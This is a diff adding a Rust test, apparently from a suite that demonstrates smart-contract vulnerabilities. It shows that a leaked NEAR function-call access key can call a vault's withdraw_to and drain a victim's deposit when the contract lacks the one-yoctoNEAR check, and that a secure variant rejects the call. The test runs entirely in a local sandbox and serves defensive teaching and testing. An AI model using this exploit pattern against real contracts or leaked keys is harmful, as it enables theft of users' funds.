@@ -0,0 +1,59 @@
+//! A leaked function-call access key withdraws the user's balance
+
+use anyhow::{ensure, Result as AnyResult};
+use near_workspaces::types::{KeyType, NearToken, SecretKey};
+use near_workspaces::{AccessKey, Account};
+use serde_json::json;
+
+use crate::{ExploitSpec, Sandbox, CONTRACT_BALANCE};
+
+pub const SPEC: ExploitSpec = ExploitSpec {
+    example: "missing_one_yocto",
+    description: "Function-call key signs withdraw_to without a wallet prompt",
+    must_succeed: || Box::pin(attack("missing_one_yocto")),
+    must_fail: || Box::pin(attack("missing_one_yocto_secure")),
+    rejection: "Requires attached deposit of exactly 1 yoctoNEAR",
+};
+
+const DEPOSIT: NearToken = NearToken::from_near(50);
+/// Gas allowance a dapp typically asks for
+const KEY_ALLOWANCE: NearToken = NearToken::from_millinear(250);
+
+async fn attack(contract: &'static str) -> AnyResult<()> {
+    let s = Sandbox::new().await?;
+    let vault = s
+        .deploy(contract, "vault", CONTRACT_BALANCE, json!({}))
+        .await?;
+    s.victim
+        .call(vault.id(), "deposit")
+        .deposit(DEPOSIT)
+        .transact()
+        .await?
+        .into_result()?;
+
+    // Signing into the dapp adds a function-call key for the vault...
+    let dapp_key = SecretKey::from_random(KeyType::ED25519);
+    s.victim
+        .batch(s.victim.id())
+        .add_key(
+            dapp_key.public_key(),
+            AccessKey::function_call_access(vault.id(), &[], Some(KEY_ALLOWANCE)),
+        )
+        .transact()
+        .await?
+        .into_result()?;
+
+    // ...which leaks. Function-call keys cannot attach deposits.
+    let leaked = Account::from_secret_key(s.victim.id().clone(), dapp_key, &s.worker);
+    let before = s.balance(s.attacker.id()).await?;
+    leaked
+        .call(vault.id(), "withdraw_to")
+        .args_json(json!({ "receiver_id": s.attacker.id(), "amount": DEPOSIT }))
+        .transact()
+        .await?
+        .into_result()?;
+
+    let gained = s.balance(s.attacker.id()).await?.saturating_sub(before);
+    ensure!(gained == DEPOSIT, "attacker only gained {gained}");
+    Ok(())
+}